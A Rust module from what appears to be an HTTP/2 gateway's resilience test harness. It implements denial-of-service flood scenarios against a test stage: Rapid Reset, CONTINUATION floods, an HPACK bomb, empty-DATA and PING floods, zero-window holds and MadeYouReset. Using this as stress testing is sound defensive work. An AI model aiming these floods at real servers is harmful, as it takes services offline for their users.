//! Floods of HTTP/2 frames (A21): each costs the sender less than it may cost the gateway.

use std::time::{Duration, Instant};

use super::attacker::{Attacker, request};
use super::round::pass;
use super::stage::{Gains, HOST, Scenario, Stage};
use crate::harness::frames::{
    CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame, remembered, setting,
};

/// RFC 9113 §6.5.2.
const INITIAL_WINDOW_SIZE: u16 = 4;
const LARGEST_WINDOW: u32 = (1 << 31) - 1;

/// CVE-2023-44487: requests taken back in the breath in which they are made.
pub const RAPID_RESET: Scenario = Scenario::new("rapid-reset", |stage, until| {
    repeat(stage, until, 100_000, |attacker, gains| {
        let burst: Vec<u8> = (0..100)
            .flat_map(|_| {
                let stream = attacker.next_stream();
                [request(stream, "GET", "/public/x", true), reset(stream)].concat()
            })
            .collect();
        attacker.send(&burst, gains);
        gains.add("requests reset", 100);
        100
    })
});

/// The same with time in between for the gateway to begin with each.
pub const PATIENT_RESET: Scenario = Scenario::new("patient-reset", |stage, until| {
    repeat(stage, until, 100_000, |attacker, gains| {
        let streams: Vec<u32> = (0..50).map(|_| attacker.next_stream()).collect();
        let requests: Vec<u8> = streams.iter().flat_map(|&stream| request(stream, "GET", "/public/x", true)).collect();
        attacker.send(&requests, gains);
        pass(Duration::from_millis(2));
        let resets: Vec<u8> = streams.iter().flat_map(|&stream| reset(stream)).collect();
        attacker.send(&resets, gains);
        gains.add("requests reset", 50);
        50
    })
});

/// RUSTSEC-2024-0332: a head that never ends.
pub const CONTINUATIONS: Scenario = Scenario::new("continuation", |stage, until| {
    let piece = frame(CONTINUATION, 0, 1, &block(&[("x", &"y".repeat(100))]));
    let burst = piece.repeat(200);
    repeat(stage, until, 1_000_000, |attacker, gains| {
        let stream = attacker.next_stream();
        if stream == 1 {
            attacker.send(&frame(HEADERS, 0, 1, &block(&[(":method", "GET")])), gains);
        }
        attacker.send(&burst, gains);
        gains.add("frames", 200);
        200
    })
});

/// One large field, and then a byte for each of its copies.
pub const HPACK_BOMB: Scenario = Scenario::new("hpack-bomb", |stage, until| {
    let base = block(&[(":method", "GET"), (":scheme", "https"), (":authority", HOST), (":path", "/public/x")]);
    let bomb = [base, remembered("x-bomb", &"b".repeat(4000)), vec![NEWEST; 12_000]].concat();
    repeat(stage, until, 2_000, |attacker, gains| {
        let stream = attacker.next_stream();
        attacker.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb), gains);
        gains.add("bombs of 48 MB", 1);
        1
    })
});

/// CVE-2019-9518, RUSTSEC-2026-0258: frames without content.
pub const EMPTY_DATA: Scenario = Scenario::new("empty-data", |stage, until| {
    repeat(stage, until, 1_000_000, |attacker, gains| {
        let stream = attacker.next_stream();
        if stream == 1 {
            attacker.send(&request(1, "POST", "/public/x", false), gains);
        }
        attacker.send(&frame(DATA, 0, 1, b"").repeat(1000), gains);
        gains.add("frames", 1000);
        1000
    })
});

/// CVE-2019-9512, CVE-2019-9515: frames that ask for an answer.
pub const PINGS: Scenario = Scenario::new("pings", |stage, until| {
    let burst = [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, b"")].concat().repeat(500);
    repeat(stage, until, 1_000_000, |attacker, gains| {
        attacker.send(&burst, gains);
        gains.add("frames", 1000);
        1000
    })
});

/// The same, whose answers are never read.
pub const PINGS_UNREAD: Scenario = Scenario::new("pings-unread", |stage, until| {
    let burst = frame(PING, 0, 0, &[7; 8]).repeat(1000);
    let mut gains = Gains::default();
    let mut sent = 0;
    while sent < 1_000_000 && Instant::now() < until {
        let mut attacker = Attacker::new(stage, &mut gains);
        while attacker.open && sent < 1_000_000 && Instant::now() < until {
            attacker.send(&burst, &mut gains);
            sent += 1000;
        }
    }
    gains.add("frames", sent);
    gains
});

/// What nobody knows must be ignored (RFC 9113 §5.5), however often it comes.
pub const UNKNOWN: Scenario = Scenario::new("unknown-frames", |stage, until| {
    let burst = [frame(0xf0, 0, 0, b""), frame(2, 0, 3, &[0, 0, 0, 0, 1])].concat().repeat(500);
    repeat(stage, until, 1_000_000, |attacker, gains| {
        attacker.send(&burst, gains);
        gains.add("frames", 1000);
        1000
    })
});

/// A thousand answers that nobody takes, for want of a window.
pub const WINDOW_ZERO: Scenario =
    Scenario::new("window-zero", |stage, until| hold(stage, until, &setting(INITIAL_WINDOW_SIZE, 0)));

/// The same with all the window there is, on connections that are never read.
pub const UNREAD: Scenario = Scenario::new("unread", |stage, until| {
    let wide = frame(WINDOW_UPDATE, 0, 0, &(LARGEST_WINDOW - 65_535).to_be_bytes());
    hold(stage, until, &[setting(INITIAL_WINDOW_SIZE, LARGEST_WINDOW), wide].concat())
});

/// CVE-2025-8671: the gateway itself is made to reset what it has begun.
pub const MADE_YOU_RESET: Scenario = Scenario::new("made-you-reset", |stage, until| {
    repeat(stage, until, 100_000, |attacker, gains| {
        let streams: Vec<u32> = (0..50).map(|_| attacker.next_stream()).collect();
        let requests: Vec<u8> = streams.iter().flat_map(|&stream| request(stream, "GET", "/public/x", true)).collect();
        attacker.send(&requests, gains);
        let provocations: Vec<u8> =
            streams.iter().flat_map(|&stream| frame(WINDOW_UPDATE, 0, stream, &LARGEST_WINDOW.to_be_bytes())).collect();
        attacker.send(&provocations, gains);
        gains.add("requests", 50);
        50
    })
});

/// One burst after the other, on a new connection where one was cut, until so many were sent or time is up. `burst` says how many
/// it was.
fn repeat(stage: &Stage, until: Instant, most: u64, burst: impl Fn(&mut Attacker, &mut Gains) -> u64) -> Gains {
    let mut gains = Gains::default();
    let mut sent = 0;
    while sent < most && Instant::now() < until {
        let mut attacker = Attacker::new(stage, &mut gains);
        while attacker.open && sent < most && Instant::now() < until {
            sent += burst(&mut attacker, &mut gains);
            attacker.listen(&mut gains);
        }
    }
    gains
}

/// Ten connections with a hundred requests each, and nothing more.
fn hold(stage: &Stage, until: Instant, settings: &[u8]) -> Gains {
    let mut gains = Gains::default();
    let mut attackers: Vec<Attacker> = (0..10).map(|_| Attacker::new(stage, &mut gains)).collect();
    for attacker in &mut attackers {
        let requests: Vec<u8> = (0..100)
            .flat_map(|_| {
                let stream = attacker.next_stream();
                request(stream, "GET", "/public/big", true)
            })
            .collect();
        attacker.send(&[settings, &requests].concat(), &mut gains);
        gains.add("requests", 100);
    }
    pass(until.saturating_duration_since(Instant::now()));
    gains
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())
}
